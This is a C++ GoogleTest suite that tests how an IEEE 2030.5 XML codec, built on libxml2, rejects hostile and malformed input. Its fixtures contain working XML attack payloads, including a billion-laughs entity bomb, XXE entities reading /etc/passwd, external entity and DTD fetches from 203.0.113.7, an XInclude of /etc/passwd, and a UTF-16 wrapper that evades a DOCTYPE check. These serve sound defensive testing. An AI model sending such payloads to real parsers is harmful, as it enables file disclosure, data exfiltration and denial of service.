// Hostile and broken input: every case is rejected with its own error code, quickly, without touching files or the
// network and without printing anything.
#include <gtest/gtest.h>
#include <libxml/parser.h>

#include <chrono>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

#include "samples.hpp"
#include "sep/encode.hpp"

namespace sep {
namespace {

constexpr std::string_view kValidEndDevice =
    "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><sFDI>167261211391</sFDI><changedTime>0</changedTime></EndDevice>";

constexpr std::string_view kBillionLaughs =
    "<?xml version=\"1.0\"?>\n"
    "<!DOCTYPE lolz [\n"
    " <!ENTITY lol \"lol\">\n"
    " <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
    " <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n"
    " <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
    " <!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n"
    " <!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n"
    " <!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n"
    " <!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">\n"
    " <!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">\n"
    " <!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">\n"
    "]>\n"
    "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><sFDI>1</sFDI><changedTime>0</changedTime>"
    "<SubscriptionListLink href=\"&lol9;\"/></EndDevice>";

constexpr std::string_view kXxeFile =
    "<?xml version=\"1.0\"?>\n"
    "<!DOCTYPE EndDevice [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
    "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><sFDI>1</sFDI><changedTime>0</changedTime>"
    "<SubscriptionListLink href=\"/x&xxe;\"/></EndDevice>";

constexpr std::string_view kXxeHttp =
    "<!DOCTYPE EndDevice [<!ENTITY xxe SYSTEM \"http://203.0.113.7/steal\">]>"
    "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><sFDI>&xxe;</sFDI><changedTime>0</changedTime></EndDevice>";

constexpr std::string_view kParameterEntity =
    "<!DOCTYPE EndDevice [<!ENTITY % remote SYSTEM \"http://203.0.113.7/evil.dtd\"> %remote;]>"
    "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><sFDI>1</sFDI><changedTime>0</changedTime></EndDevice>";

constexpr std::string_view kExternalDtd =
    "<!DOCTYPE EndDevice SYSTEM \"file:///etc/passwd\">"
    "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><sFDI>1</sFDI><changedTime>0</changedTime></EndDevice>";

constexpr std::string_view kPlainDoctype =
    "<!DOCTYPE EndDevice>"
    "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><sFDI>1</sFDI><changedTime>0</changedTime></EndDevice>";

// UTF-16LE with a byte order mark: the byte-level DOCTYPE pre-check cannot see it, the parser hook must.
std::string utf16le(std::string_view ascii) {
    std::string out = "\xFF\xFE";
    for (const char c : ascii) {
        out += c;
        out += '\0';
    }
    return out;
}

std::string with_declaration_utf16(std::string_view body) {
    return utf16le("<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + std::string(body));
}

std::string strip_declaration(std::string_view doc) {
    if (doc.starts_with("<?xml"))
        doc.remove_prefix(doc.find("?>") + 2);
    return std::string(doc);
}

template <Decodable T = EndDevice>
void expect_error(std::string_view xml, std::string_view code) {
    const auto result = test::codec().decode<T>(xml);
    ASSERT_FALSE(result.ok()) << xml;
    EXPECT_EQ(result.error().code, code) << result.error().message;
    EXPECT_FALSE(result.error().message.empty());
}

// Decodes a document that must be refused with expected_code. How fast the refusal is, is measured by
// han_codec_bench (BM_RefuseBillionLaughs), never asserted here.
void expect_refused(std::string_view xml, std::string_view expected_code) {
    const auto result = test::codec().decode<EndDevice>(xml);
    ASSERT_FALSE(result.ok());
    EXPECT_EQ(result.error().code, expected_code) << result.error().message;
}

class codec_hardening : public ::testing::Test {
protected:
    void SetUp() override {
        test::codec();
        refused_before_ = Codec::refused_external_loads();
    }
    void TearDown() override { EXPECT_EQ(Codec::refused_external_loads(), refused_before_) << "libxml2 tried to load"; }

private:
    std::uint64_t refused_before_ = 0;
};

TEST_F(codec_hardening, BillionLaughsIsRejectedBeforeExpansion) {
    expect_refused(kBillionLaughs, "xml.doctype");
    expect_refused(with_declaration_utf16(strip_declaration(kBillionLaughs)), "xml.doctype");
}

TEST_F(codec_hardening, ExternalEntitiesAreNeverFetched) {
    for (const std::string& doc :
         {std::string(kXxeFile), std::string(kXxeHttp), std::string(kParameterEntity), std::string(kExternalDtd),
          with_declaration_utf16(strip_declaration(kXxeFile)), with_declaration_utf16(kXxeHttp),
          with_declaration_utf16(kParameterEntity), with_declaration_utf16(kExternalDtd)}) {
        expect_refused(doc, "xml.doctype");
        const auto validated = test::codec().validate(doc);
        ASSERT_FALSE(validated.ok());
        EXPECT_EQ(validated.error().code, "xml.doctype");
    }
}

TEST_F(codec_hardening, AnyDoctypeIsRejected) {
    expect_error(kPlainDoctype, "xml.doctype");
    expect_error(with_declaration_utf16(kPlainDoctype), "xml.doctype");
}

TEST_F(codec_hardening, UndeclaredEntityIsMalformed) {
    expect_error(
        "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><sFDI>&xxe;</sFDI><changedTime>0</changedTime>"
        "</EndDevice>",
        "xml.malformed");
}

TEST_F(codec_hardening, XIncludeIsNotProcessed) {
    expect_error(
        "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\" xmlns:xi=\"http://www.w3.org/2001/XInclude\">"
        "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/><sFDI>1</sFDI><changedTime>0</changedTime>"
        "</EndDevice>",
        "xml.schema");
}

TEST_F(codec_hardening, SchemaLocationHintsAreIgnored) {
    const auto result = test::codec().decode<EndDevice>(
        "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" "
        "xsi:schemaLocation=\"urn:ieee:std:2030.5:ns http://203.0.113.7/sep.xsd\">"
        "<sFDI>1</sFDI><changedTime>0</changedTime></EndDevice>");
    ASSERT_TRUE(result.ok()) << result.error().message;
    EXPECT_EQ(result->sfdi, 1u);
}

TEST_F(codec_hardening, XsiTypeCannotSwapTheType) {
    expect_error(
        "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" "
        "xsi:type=\"Time\"><currentTime>0</currentTime><dstEndTime>0</dstEndTime><dstOffset>0</dstOffset>"
        "<dstStartTime>0</dstStartTime><quality>3</quality><tzOffset>0</tzOffset></EndDevice>",
        "xml.schema");
}

TEST_F(codec_hardening, SizeCapComesBeforeParsing) {
    std::string padded(kValidEndDevice);
    padded.insert(padded.size() - std::string_view("</EndDevice>").size(), std::string(65536 - padded.size(), ' '));
    ASSERT_EQ(padded.size(), 65536u);
    EXPECT_TRUE(test::codec().decode<EndDevice>(padded).ok());

    padded.insert(padded.size() - 1, " ");
    expect_error(padded, "xml.too_large");
    // Not XML at all: still too_large, because nothing is parsed past the cap.
    expect_error(std::string(1 << 20, '<'), "xml.too_large");
}

TEST_F(codec_hardening, DepthCap) {
    std::string deep = "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\">";
    for (int i = 0; i < 40; ++i)
        deep += "<a>";
    for (int i = 0; i < 40; ++i)
        deep += "</a>";
    deep += "</EndDevice>";
    expect_error(deep, "xml.too_deep");

    // Exactly at the cap the document parses; the schema then rejects the stray elements.
    std::string at_cap = "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\">";
    for (int i = 0; i < 31; ++i)
        at_cap += "<a>";
    for (int i = 0; i < 31; ++i)
        at_cap += "</a>";
    at_cap += "</EndDevice>";
    expect_error(at_cap, "xml.schema");

    // Far past libxml2's own limit: ours answers first.
    std::string very_deep;
    for (int i = 0; i < 5000; ++i)
        very_deep += "<a>";
    expect_error(very_deep, "xml.too_deep");
}

TEST_F(codec_hardening, CustomDepthCap) {
    auto shallow = Codec::load(HEADEND_SCHEMA_DIR, CodecLimits{65536, 3});
    ASSERT_TRUE(shallow.ok()) << shallow.error().message;
    const std::string with_pev = encode(test::full_power_status());  // PowerStatus/PEVInfo/ActivePower/value
    const auto rejected = (*shallow)->decode<PowerStatus>(with_pev);
    ASSERT_FALSE(rejected.ok());
    EXPECT_EQ(rejected.error().code, "xml.too_deep");
    EXPECT_TRUE((*shallow)->decode<PowerStatus>(encode(test::minimal_power_status())).ok());
}

TEST_F(codec_hardening, MalformedAndTruncated) {
    expect_error("", "xml.malformed");
    expect_error("   ", "xml.malformed");
    expect_error("not xml", "xml.malformed");
    expect_error("<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><sFDI>1</changedTime></EndDevice>", "xml.malformed");
    expect_error("<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"/><EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"/>",
                 "xml.malformed");
    expect_error("<x:EndDevice><sFDI>1</sFDI></x:EndDevice>", "xml.malformed");  // undeclared prefix
    expect_error("<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><sFDI>&#0;</sFDI></EndDevice>", "xml.malformed");
    expect_error("<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><sFDI>\xFF</sFDI></EndDevice>", "xml.malformed");
    std::string with_nul = "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\">";
    with_nul += '\0';
    with_nul += "</EndDevice>";
    expect_error(with_nul, "xml.malformed");

    const std::string full = encode(test::full_end_device());
    for (std::size_t cut = 1; cut < full.size(); cut += 7)
        expect_error(full.substr(0, cut), "xml.malformed");
}

TEST_F(codec_hardening, MalformedMessageSaysWhere) {
    const auto result = test::codec().decode<EndDevice>(
        "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\">\n<sFDI>1</sFDI>\n<changedTime>0</changed>\n</EndDevice>");
    ASSERT_FALSE(result.ok());
    EXPECT_EQ(result.error().code, "xml.malformed");
    EXPECT_NE(result.error().message.find("line 3"), std::string::npos) << result.error().message;
    EXPECT_NE(result.error().message.find("changedTime"), std::string::npos) << result.error().message;
}

TEST_F(codec_hardening, SchemaViolations) {
    // sFDI with letters
    expect_error(
        "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><sFDI>16726121139X</sFDI><changedTime>0</changedTime>"
        "</EndDevice>",
        "xml.schema");
    // out of order
    expect_error(
        "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><changedTime>0</changedTime><sFDI>1</sFDI>"
        "</EndDevice>",
        "xml.schema");
    // required element missing
    expect_error("<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><changedTime>0</changedTime></EndDevice>", "xml.schema");
    // sFDI beyond 36 bits plus check digit
    expect_error(
        "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><sFDI>687194767360</sFDI><changedTime>0</changedTime>"
        "</EndDevice>",
        "xml.schema");
    // LFDI one octet short
    expect_error(
        "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><lFDI>3E4F45AB31EDFE5B67E343E5E4562E31984E23</lFDI>"
        "<sFDI>1</sFDI><changedTime>0</changedTime></EndDevice>",
        "xml.schema");
    // Link without href
    expect_error(
        "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><ConfigurationLink/><sFDI>1</sFDI>"
        "<changedTime>0</changedTime></EndDevice>",
        "xml.schema");
    // unknown element
    expect_error(
        "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><sFDI>1</sFDI><changedTime>0</changedTime>"
        "<bindingLink href=\"/x\"/></EndDevice>",
        "xml.schema");
    // element in no namespace inside a 2030.5 document
    expect_error(
        "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><sFDI xmlns=\"\">1</sFDI><changedTime>0</changedTime>"
        "</EndDevice>",
        "xml.schema");
    // list without its required attributes
    expect_error<EndDeviceList>("<EndDeviceList xmlns=\"urn:ieee:std:2030.5:ns\"/>", "xml.schema");
    // String32 too long, PerCent above 100 %
    DeviceInformation info = test::minimal_device_information();
    info.mf_model = std::string(33, 'm');
    expect_error<DeviceInformation>(encode(info), "xml.schema");
    PowerStatus status = test::full_power_status();
    status.estimated_charge_remaining = 10001;
    expect_error<PowerStatus>(encode(status), "xml.schema");
    // binding status outside the enumeration
    std::string binding = encode(test::minimal_pev_binding());
    binding.replace(binding.find("fallback"), 8, "whatever");
    expect_error<PEVBinding>(binding, "xml.schema");
}

TEST_F(codec_hardening, SchemaMessageNamesLineAndElement) {
    const auto result = test::codec().decode<EndDevice>(
        "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\">\n  <lFDI>3E4F45AB31EDFE5B67E343E5E4562E31984E23E5</lFDI>\n"
        "  <sFDI>abc</sFDI>\n  <changedTime>0</changedTime>\n</EndDevice>");
    ASSERT_FALSE(result.ok());
    EXPECT_EQ(result.error().code, "xml.schema");
    EXPECT_NE(result.error().message.find("line 3"), std::string::npos) << result.error().message;
    EXPECT_NE(result.error().message.find("sFDI"), std::string::npos) << result.error().message;
    EXPECT_NE(result.error().message.find("abc"), std::string::npos) << result.error().message;
}

TEST_F(codec_hardening, WrongRootOrNamespace) {
    expect_error(encode(test::full_time()), "xml.unexpected_root");
    expect_error<Time>(kValidEndDevice, "xml.unexpected_root");
    expect_error(
        "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns:v2\"><sFDI>1</sFDI><changedTime>0</changedTime>"
        "</EndDevice>",
        "xml.unexpected_root");
    expect_error("<EndDevice><sFDI>1</sFDI><changedTime>0</changedTime></EndDevice>", "xml.unexpected_root");
    expect_error<PEVBinding>("<PEVBinding xmlns=\"urn:ieee:std:2030.5:ns\"><status>confirmed</status></PEVBinding>",
                             "xml.unexpected_root");

    const auto result = test::codec().decode<EndDevice>(encode(test::full_time()));
    ASSERT_FALSE(result.ok());
    EXPECT_EQ(result.error().message,
              "expected <EndDevice> in namespace 'urn:ieee:std:2030.5:ns', got <Time> in namespace "
              "'urn:ieee:std:2030.5:ns'");

    // validate() takes any known root, but not an unknown one.
    EXPECT_TRUE(test::codec().validate(encode(test::full_time())).ok());
    const auto unknown = test::codec().validate("<Nonsense xmlns=\"urn:ieee:std:2030.5:ns\"/>");
    ASSERT_FALSE(unknown.ok());
    EXPECT_EQ(unknown.error().code, "xml.schema");
}

TEST_F(codec_hardening, NothingReachesStderr) {
    ::testing::internal::CaptureStderr();
    for (const std::string& doc :
         {std::string(kBillionLaughs), std::string(kXxeFile), with_declaration_utf16(kXxeHttp), std::string("<a"),
          std::string("<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><sFDI>x</sFDI></EndDevice>"),
          std::string("<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><sFDI>&xxe;</sFDI></EndDevice>"),
          std::string("<x:EndDevice/>")}) {
        EXPECT_FALSE(test::codec().decode<EndDevice>(doc).ok());
        EXPECT_FALSE(test::codec().validate(doc).ok());
    }
    EXPECT_EQ(::testing::internal::GetCapturedStderr(), "");
}

TEST_F(codec_hardening, ConcurrentDecoding) {
    const std::string device = encode(test::full_end_device());
    const std::string status = encode(test::full_power_status());
    const std::string bad = "<EndDevice xmlns=\"urn:ieee:std:2030.5:ns\"><sFDI>x</sFDI></EndDevice>";
    std::vector<std::thread> threads;
    std::vector<int> failures(4, 0);
    for (int t = 0; t < 4; ++t) {
        threads.emplace_back([&, t] {
            for (int i = 0; i < 200; ++i) {
                const auto d = test::codec().decode<EndDevice>(device);
                const auto s = test::codec().decode<PowerStatus>(status);
                const auto b = test::codec().decode<EndDevice>(bad);
                const auto l = test::codec().decode<EndDevice>(kBillionLaughs);
                if (!d.ok() || !(*d == test::full_end_device()) || !s.ok() || b.ok() || l.ok())
                    ++failures[t];
            }
        });
    }
    for (auto& thread : threads)
        thread.join();
    EXPECT_EQ(failures, std::vector<int>(4, 0));
}

// The loader really is installed: libxml2 asked directly for an external DTD gets nothing, and it is counted.
TEST(codec_entity_loader, RefusesAndCounts) {
    test::codec();
    const std::uint64_t before = Codec::refused_external_loads();
    constexpr std::string_view kDoc = "<!DOCTYPE r SYSTEM \"file:///etc/passwd\"><r>&e;</r>";
    xmlDocPtr doc = xmlReadMemory(kDoc.data(), static_cast<int>(kDoc.size()), nullptr, nullptr,
                                  XML_PARSE_DTDLOAD | XML_PARSE_NOENT | XML_PARSE_NOERROR | XML_PARSE_NOWARNING);
    xmlFreeDoc(doc);
    EXPECT_GT(Codec::refused_external_loads(), before);
}

}  // namespace
}  // namespace sep
